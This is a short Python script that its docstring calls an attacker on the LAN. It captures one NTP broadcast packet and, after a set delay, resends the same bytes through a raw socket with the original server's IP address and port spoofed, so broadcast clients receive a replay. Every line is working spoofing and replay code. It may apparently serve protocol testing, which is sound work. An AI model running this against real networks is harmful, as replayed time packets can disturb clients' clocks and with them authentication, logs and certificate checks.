#!/usr/bin/python3
"""An attacker on the LAN: records one NTP broadcast (mode 5) sent to ADDRESS and, WAIT seconds later, sends the very
same octets again with the broadcasting server's source address and port (a raw socket writes the IP header), so that
a broadcast client sees a replay. Prints what it replayed.

usage: replay.py ADDRESS WAIT
"""
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def main() -> int:
    address, wait = sys.argv[1], float(sys.argv[2])
    listener = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("", 123))
    if 224 <= int(address.split(".")[0]) < 240:
        listener.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(address) + socket.inet_aton("0.0.0.0"))
    listener.settimeout(60)
    while True:
        payload, (source, port) = listener.recvfrom(2048)
        if payload and payload[0] & 7 == 5:
            break

    time.sleep(wait)
    udp = struct.pack("!HHHH", port, 123, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x4E54, 0, 1, socket.IPPROTO_UDP, 0,
                     socket.inet_aton(source), socket.inet_aton(address))
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    raw.sendto(ip + udp, (address, 0))
    print(f"replayed {len(payload)} octets from {source}:{port} to {address} after {wait:g} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
